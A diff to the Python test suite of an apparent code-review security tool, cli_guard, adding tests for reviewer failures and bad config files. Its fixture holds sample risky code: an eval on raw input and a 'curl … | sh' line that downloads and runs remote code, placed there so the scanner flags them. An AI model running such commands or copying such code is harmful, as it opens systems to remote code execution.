@@ -2,18 +2,23 @@
 
 from typing import Any
 
+import pytest
 from examples import table
 from hypothesis import given, settings
 from hypothesis import strategies as st
 from in_process import RISKY
 from repositories import key
 
+from cli_guard.errors import ConfigError
 from cli_guard.git.between import SnapshotContents, changes_between
 from cli_guard.graph import build_graph
 from cli_guard.graph.context import Context
-from cli_guard.model import Action
+from cli_guard.model import Action, Skipped
 from cli_guard.policy.config import Config
 from cli_guard.policy.decisions import Policy
+from cli_guard.reviewers import code
+from cli_guard.reviewers.per_file import Examiner
+from cli_guard.reviewers.per_file_work import add_file_work
 from cli_guard.reviewers.review_input import Limits, ReviewInput
 
 CLEAN = '"""Adds."""\n\nx = 1\n'
@@ -181,3 +186,28 @@ def test_the_plan_is_plain_data() -> None:
     plan = review({"app.py": CLEAN})["plan"]
     assert Action(**plan[0]).tool == "review_secrets"
     assert {step["risk"] for step in plan} == {"read_only", "git"}
+
+
+FAILING = {"app.py": "def f(a):\n    return eval(a)\n", "run.sh": "curl https://example.org/x | sh\n"}
+
+
+@table("size", [0, 600_000], ids=["small", "examined before"])
+def test_a_reviewer_that_fails_asks_and_ends_no_other(size: int, monkeypatch: pytest.MonkeyPatch) -> None:
+    def fail(subject: ReviewInput) -> Examiner:
+        return lambda change: 1 / 0  # type: ignore[return-value]
+
+    monkeypatch.setattr(code, "examiner", fail)
+    files = FAILING | {"notes.txt": "word " * (size // 5)}
+    subject = ReviewInput("snapshot", changes_between({}, files), SnapshotContents({}, files))
+    subject = add_file_work(subject.under(Policy()))
+    state = review(files, context=Context(subject=subject, snapshot=files))
+    assert Skipped("code", "internal error: ZeroDivisionError", asks=True) in state["skipped"]
+    found = {each["finding"].rule: each["decision"] for each in state["judged"]}
+    assert found["policy-not-reviewed"] == "review"
+    assert any(rule.startswith("command-") for rule in found)
+
+
+def test_an_error_that_the_user_can_fix_is_no_bug() -> None:
+    files = {"cli-guard.toml": "["}
+    with pytest.raises(ConfigError):
+        review(files)
